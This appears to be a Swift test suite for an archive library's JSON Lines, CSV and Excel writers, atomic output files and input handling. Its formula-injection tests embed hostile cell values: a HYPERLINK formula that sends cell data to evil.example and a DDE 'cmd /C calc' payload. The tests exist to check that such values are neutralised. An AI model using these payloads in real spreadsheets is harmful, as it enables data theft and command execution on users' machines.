import Foundation
import Testing
import TopicsCore
import TopicsTestSupport
@testable import ArchiveIO

@Suite("Writers and inputs")
struct WritersTests {
    let record = Record([
        .init("title", .string("政协 \"提案\"\n第二行\\")),
        .init("date", .null),
        .init("paragraphs", .strings(["一,二", "三"])),
        .init("n", .int(3)),
        .init("images", .records([Record([.init("src", .string("a.jpg"))])])),
    ])

    @Test func jsonLinesEscapesAndRoundTrips() throws {
        var writer = JSONLinesWriter()
        var bytes: [UInt8] = []
        writer.encode(record, into: &bytes)
        #expect(bytes.last == 0x0A)
        #expect(bytes.dropLast().allSatisfy { $0 != 0x0A }, "one record, one line")
        let object = try #require(try JSONSerialization.jsonObject(with: Data(bytes)) as? [String: Any])
        #expect(object["title"] as? String == "政协 \"提案\"\n第二行\\")
        #expect(object["date"] is NSNull)
        #expect(object["paragraphs"] as? [String] == ["一,二", "三"])
        #expect(object["n"] as? Int == 3)
        #expect(String(decoding: bytes, as: UTF8.self).hasPrefix("{\"title\":"))
    }

    /// A string literal's bytes, escape by escape: the plain runs between escapes pass through whole, at either end too.
    @Test func jsonStringEscapesEachKind() {
        func encoded(_ s: String) -> String {
            var out: [UInt8] = []
            JSONEncoding.appendString(s, to: &out)
            return String(decoding: out, as: UTF8.self)
        }
        #expect(encoded("") == #""""#)
        #expect(encoded("政协") == #""政协""#)
        #expect(encoded("\"a\\b\"") == #""\"a\\b\"""#)
        #expect(encoded("一\n二\r\t三") == #""一\n二\r\t三""#)
        #expect(encoded("\u{01}x\u{7F}") == #""\u0001x\u007f""#)
        #expect(encoded("行\u{2028}段\u{2029}") == #""行\u2028段\u2029""#)
        #expect(encoded("\u{2026}…") == "\"……\"", "other characters opening with the byte E2 pass through")
    }

    @Test func csvQuotesCellsAndWritesHeaderOnce() {
        var writer = CSVWriter(byteOrderMark: false)
        var bytes: [UInt8] = []
        writer.encode(record, into: &bytes)
        writer.encode(record, into: &bytes)
        let text = String(decoding: bytes, as: UTF8.self)
        let expectedRow = "\"政协 \"\"提案\"\"\n第二行\\\",,\"一,二\n三\",3,\"[{\"\"src\"\":\"\"a.jpg\"\"}]\"\r\n"
        #expect(text == "title,date,paragraphs,n,images\r\n" + expectedRow + expectedRow)
    }

    /// Issue 13: a citizen's message titled like a formula must not run in Excel or WPS.
    @Test func csvCellsNeverStartAFormula() {
        let hostile = [#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                       "\t=1+1", "\r=1+1", "=1", "-", "+"]
        var writer = CSVWriter(byteOrderMark: false)
        var bytes: [UInt8] = []
        for (k, title) in hostile.enumerated() {
            writer.encode(Record([.init("id", .int(k)), .init("title", .string(title)), .init("list", .strings([title, "安全"])),
                                  .init("score", .double(-3.5)), .init("count", .string("-3.5")), .init("phone", .string("+86"))]), into: &bytes)
        }
        var reader = try! CSVReader(bytes: bytes, input: "hostile.csv")
        var rows = 0
        while let cells = reader.nextRow() {
            let title = cells[1], list = cells[2]
            #expect(title.hasPrefix("'"), "\(title)")
            #expect(title.dropFirst() == hostile[rows])
            #expect(list.hasPrefix("'"), "\(list)")
            #expect(cells[3] == "-3.5" && cells[4] == "-3.5" && cells[5] == "+86", "numbers stay numbers")
            rows += 1
        }
        #expect(rows == hostile.count)
        for safe in ["政协提案", "1+1", "a=b", "'quoted"] { #expect(CSVWriter.neutralized(safe) == safe) }
    }

    @Test func atomicFileAppearsOnlyOnCommit() throws {
        let folder = try Fixtures.temporaryFolder()
        let path = folder.appendingPathComponent("out.jsonl").path
        try "old".write(toFile: path, atomically: false, encoding: .utf8)
        let file = try OutputFile.atomic(path)
        try file.write(Array("new\n".utf8))
        try file.flush()
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "old", "the final name keeps the old file until commit")
        try file.commit()
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "new\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["out.jsonl"], "no temporary file left")
    }

    @Test func abandonedFileLeavesNothing() throws {
        let folder = try Fixtures.temporaryFolder()
        let file = try OutputFile.atomic(folder.appendingPathComponent("out.jsonl").path)
        try file.write(Array("half".utf8))
        file.abandon()
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).isEmpty)
    }

    @Test func replaceWritesAWholeFileAtomically() throws {
        let folder = try Fixtures.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("table.tsv").path
        try "old".write(toFile: path, atomically: false, encoding: .utf8)
        try OutputFile.replace(path, with: Array("a\t1\n".utf8))
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "a\t1\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["table.tsv"], "no temporary file left")
        #expect(throws: TopicsError.self) { try OutputFile.replace("/nonexistent-folder-xyz/t.tsv", with: []) }
    }

    @Test func writingIntoMissingFolderIsAClearError() {
        #expect(throws: TopicsError.self) { try OutputFile.atomic("/nonexistent-folder-xyz/out.jsonl") }
    }

    @Test func inputsExpandFoldersGlobsAndReportMisses() throws {
        let folder = try Fixtures.temporaryFolder()
        let sub = folder.appendingPathComponent("sub")
        try FileManager.default.createDirectory(at: sub, withIntermediateDirectories: true)
        for name in ["b.html", "a.htm", "notes.txt", "sub/c.shtml"] {
            try "x".write(to: folder.appendingPathComponent(name), atomically: true, encoding: .utf8)
        }
        let (inputs, errors) = InputFiles.expand([folder.path, folder.path + "/*.txt", "-", folder.path + "/missing.html"])
        #expect(inputs == [.file(folder.path + "/a.htm"), .file(folder.path + "/b.html"), .file(folder.path + "/sub/c.shtml"),
                           .file(folder.path + "/notes.txt"), .standardInput])
        #expect(errors.map(\.code) == [.unreadable])
        #expect(errors.first?.input == folder.path + "/missing.html")
    }

    @Test func unreadableFileIsAnError() {
        #expect {
            try InputFiles.read(.file("/proc/self/mem"), maxBytes: 1 << 20)
        } throws: { ($0 as? TopicsError)?.code == .unreadable }
    }

    @Test func batchKeepsOrderAndFailuresInPlace() throws {
        var seen: [(Int, Result<Int, TopicsError>)] = []
        try BatchRunner(jobs: 2, window: 7).run(Array(0..<50), work: { (n: Int) throws(TopicsError) -> Int in
            if n % 10 == 3 { throw TopicsError(.noContent, input: "\(n)", "planted") }
            return n * n
        }) { index, _, result in seen.append((index, result)) }
        #expect(seen.map(\.0) == Array(0..<50))
        for (n, result) in seen {
            switch result {
            case .success(let square): #expect(square == n * n)
            case .failure(let error): #expect(n % 10 == 3 && error.input == "\(n)")
            }
        }
    }
}

/// Issue 17: offices live in spreadsheets. A workbook is a real .xlsx (a zip of sheet XML) that
/// appears only on commit, keeps Chinese text, numbers as numbers, and never lets a formula run.
/// `-o /dev/null` once renamed a file over the device: what is not a regular file is written to as it is.
@Suite("Output to devices and pipes")
struct DeviceOutputTests {
    @Test func aNamedPipeStaysAPipeAndGetsTheBytes() throws {
        let folder = try Fixtures.temporaryFolder()
        let fifo = folder.appendingPathComponent("out.fifo").path
        #expect(mkfifo(fifo, 0o600) == 0)
        let reader = open(fifo, O_RDONLY | O_NONBLOCK)   // a reader first, so the writer's open does not wait
        #expect(reader >= 0)
        defer { close(reader) }
        let out = try OutputFile.atomic(fifo)
        try out.write(Array("{\"id\":\"1\"}\n".utf8))
        try out.commit()
        var info = stat()
        #expect(stat(fifo, &info) == 0 && (info.st_mode & S_IFMT) == S_IFIFO)
        var bytes = [UInt8](repeating: 0, count: 64)
        let n = read(reader, &bytes, bytes.count)
        #expect(n == 11 && String(decoding: bytes.prefix(max(n, 0)), as: UTF8.self) == "{\"id\":\"1\"}\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["out.fifo"])   // no temporary left
    }
}

@Suite("Excel workbooks")
struct XLSXTests {
    /// The sheet XML of a workbook, through Python's zipfile (the test reads what Excel would).
    func sheetXML(_ path: String, sheet: Int = 1) throws -> String {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        process.arguments = ["python3", "-c", "import sys,zipfile;sys.stdout.write(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet\(sheet).xml').decode())", path]
        let out = Pipe()
        process.standardOutput = out
        try process.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationStatus == 0, "not a zip with sheet\(sheet).xml: \(path)")
        return String(decoding: data, as: UTF8.self)
    }

    @Test func recordsBecomeRowsAndNothingRuns() throws {
        let folder = try Fixtures.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("t.xlsx").path
        let sink = try RecordFormat.xlsx.sink(path)
        try sink.write(Record([.init("id", .int(7)), .init("title", .string(#"=HYPERLINK("http://evil.example","点击")"#)),
                               .init("score", .double(-3.5)), .init("terms", .strings(["政协", "提案"])), .init("none", .null)]))
        try sink.write(Record([.init("id", .int(8)), .init("title", .string("小区停车难")), .init("score", .double(1)),
                               .init("terms", .strings([])), .init("none", .null)]))
        #expect(!FileManager.default.fileExists(atPath: path), "visible before commit")
        try sink.commit()
        let xml = try sheetXML(path)
        #expect(xml.contains(">id<") && xml.contains(">title<") && xml.contains(">score<"), "header row")
        #expect(xml.contains("'=HYPERLINK"), "the formula text is neutralised")
        #expect(!xml.contains("<f>"), "no formula cell")
        #expect(xml.contains("<v>-3.5</v>") && xml.contains("<v>7</v>"), "numbers stay numbers")
        #expect(xml.contains("小区停车难") && xml.contains("政协\n提案"), "Chinese text and lists one item a line")
        #expect(xml.contains("autoFilter") || xml.contains("pane"), "header frozen and filtered")
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.contains(".tmp-") }
        #expect(leftovers.isEmpty)
    }

    @Test func anAbandonedWorkbookLeavesTheOldFile() throws {
        let folder = try Fixtures.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("t.xlsx").path
        try "old".write(toFile: path, atomically: false, encoding: .utf8)
        let book = try XLSXWorkbook(path: path)
        try book.addSheet("热点问题表", columns: ["热度排名", "问题ID"])
        try book.write(Record([.init("热度排名", .int(1)), .init("问题ID", .int(1))]))
        book.abandon()
        #expect(try String(contentsOfFile: path, encoding: .utf8) == "old")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path) == ["t.xlsx"])
        #expect(throws: TopicsError.self) { try RecordFormat.xlsx.sink(nil) }
    }

    @Test func twoSheetsInOneWorkbook() throws {
        let folder = try Fixtures.temporaryFolder()
        defer { try? FileManager.default.removeItem(at: folder) }
        let path = folder.appendingPathComponent("hot.xlsx").path
        let book = try XLSXWorkbook(path: path)
        try book.addSheet("热点问题表")
        try book.write(Record([.init("热度排名", .int(1)), .init("问题描述", .string("丽发新城小区附近搅拌站噪音扰民"))]))
        try book.addSheet("热点问题留言明细表")
        try book.write(Record([.init("问题ID", .int(1)), .init("留言编号", .int(360104))]))
        try book.commit()
        #expect(try sheetXML(path, sheet: 1).contains("搅拌站"))
        #expect(try sheetXML(path, sheet: 2).contains("<v>360104</v>"))
    }
}
